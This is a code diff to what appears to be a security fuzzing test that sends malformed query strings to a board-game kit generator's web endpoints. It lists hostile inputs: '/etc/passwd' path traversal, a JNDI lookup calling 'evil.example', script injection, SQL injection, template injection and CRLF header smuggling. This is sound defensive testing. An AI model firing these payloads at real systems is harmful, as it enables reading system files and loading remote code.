@@ -99,13 +99,21 @@ def _choices() -> Iterator[Attack]:
         "bleed=1e9mm", "bleed=-1mm", "gap=NaNmm", "margin=999mm", "size=tiles=1e308mm",
         "size=tiles=0mm", "size=%00", "lang=../en", "lang=xx", "lang=en%0d%0aX:y", "out=/tmp/x",
         "config=/etc/passwd", "--out=/tmp", "__class__=1", "%ff=%fe", "=", "&&&&", "%", "==&==",
+        "changed-since=../../etc/passwd", "changed-since=manifest.json", "changed-since=opened",
+        "draft=yes&proof=yes&formats=png", "draft=%00", "seen=" + "f" * 5000, "seen=%3Cscript%3E",
         "paper={{913*7}}", "paper=${jndi:ldap://evil.example/}", "paper=<script>alert(1)</script>",
         "paper='%20OR%201=1--", "q=" + "%F0%9F%8E%B2" * 300, "players=1000000000000",
     ):  # fmt: skip
         yield Attack(
             f"choice {query[:50]} ({len(query)})", get(f"/games/turno/make/?for=loop&{query}")
         )
-    for name in ("make.json", "make/kit.pdf", "make/kit.zip", "make/pages/tiles/1.svg", "laser/"):
+    for name in (
+        "make.json",
+        "make/kit.pdf",
+        "make/kit.zip",
+        "make/pages/tiles/1.svg",
+        "laser/beds/",
+    ):
         query = "paper=99999x99999mm&ink=<b>&theme=../x&duplex=%00"
         yield Attack(f"choices of {name}", get(f"/games/turno/{name}?{query}"))
     for query in (
